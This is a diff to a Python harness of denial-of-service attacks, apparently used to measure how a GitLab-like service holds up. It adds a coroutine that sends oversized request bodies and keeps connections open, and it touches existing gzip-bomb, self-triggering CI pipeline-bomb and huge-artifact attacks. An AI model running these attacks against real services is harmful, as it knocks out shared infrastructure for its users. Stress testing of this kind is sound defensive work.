@@ -1,7 +1,7 @@
 """The attacks: each coroutine in `ATTACKS` goes on until it is cancelled, and counts its answers (`200`, `503`, `cut`).
 
 `python -m scripts.abuse.attacks NAME` makes one until SIGTERM. It reads what is attacked from standard input,
-prints a line when it begins, and then the counts."""
+prints a line when it begins, after its preparation, and then the counts."""
 
 import asyncio
 import base64
@@ -21,6 +21,7 @@ from scripts.abuse.environment import (
     LARGE_FILE,
     MEDIUM_FILE,
     AttackTarget,
+    begin,
     connected,
     fetch_in_turn,
     repeat,
@@ -222,6 +223,31 @@ async def bodies_of_strangers(target: AttackTarget, answers: Answers) -> None:
     await fetch_in_turn(urls, 40, answers, {"Content-Type": "application/json"}, body=slowly)
 
 
+async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
+    """Bodies of 6 MB: some end a megabyte too early, with their connections; others are refused, and their connections
+    stay open without another request."""
+    source = INPUTS["commit-message"]
+    async with session() as http:
+        large = await source.make(target, http, source.largest)
+    fields = {"content_length": str(len(large.body)), "private_token": target.attacker}
+    head = request_head("POST", large.url, content_type="application/json", **fields)
+
+    async with contextlib.AsyncExitStack() as kept:
+
+        async def send(number: int) -> str:
+            if number:
+                reader, writer = await kept.enter_async_context(connected(large.url))
+                writer.write(head + large.body)
+                return await status_of(reader)
+            async with connected(large.url) as (_, writer):
+                writer.write(head + large.body[:-MEGABYTE])
+                await writer.drain()
+                await asyncio.sleep(0.1)
+                return "ended"
+
+        await repeat(3, send, answers)
+
+
 async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
     """Ten gigabytes of nothing in ten megabytes, to the API and to git."""
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
@@ -245,6 +271,7 @@ async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
 
 async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
     """One push of a file that triggers itself six times, and another of a trigger of its own project."""
+    begin()
     project = target.project(target.mine)
     trigger = "bomb{}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n"
     files = {
@@ -267,13 +294,11 @@ async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
 async def artifact_members(target: AttackTarget, answers: Answers) -> None:
     """One archive of very many files, of which one after the other is read."""
     async with session(target.as_attacker) as http:
-        for members in (150_000, 60_000):
-            job = await running_job(target, http, ARTIFACTS_CONFIG)
-            status = await job.upload({f"files/{number:06}.txt": "x" for number in range(members)}).send(http)
-            answers[f"{members} members {status}"] += 1
-            await job.finish().send(http)
-            if status == "201":
-                break
+        job = await running_job(target, http, ARTIFACTS_CONFIG)
+        upload = job.upload({f"files/{number:06}.txt": "x" for number in range(150_000)})
+        begin()
+        answers[f"upload {await upload.send(http)}"] += 1
+        await job.finish().send(http)
     files = f"{target.project(target.mine)}/jobs/{job.id}/artifacts/files"
     urls = [f"{files}/{number:06}.txt" for number in range(8)]
     await fetch_in_turn(urls, 8, answers, target.as_attacker)
@@ -334,6 +359,7 @@ ATTACKS: dict[str, Attack] = {
     "idle-connections": idle_connections,
     "unread-answers": unread_answers,
     "bodies-of-strangers": bodies_of_strangers,
+    "kept-bodies": kept_bodies,
     "gzip-bombs": gzip_bombs,
     "pipeline-bomb": pipeline_bomb,
     "abandoned-archives": abandoned_archives,
@@ -359,5 +385,4 @@ async def attack_until_terminated(name: str, target: AttackTarget) -> Answers:
 if __name__ == "__main__":
     os.nice(10)  # what is measured is the service, not who gets the processor
     attacked = AttackTarget.from_json(sys.stdin.read())
-    print("attacking", flush=True)
     print(json.dumps(asyncio.run(attack_until_terminated(sys.argv[1], attacked))))
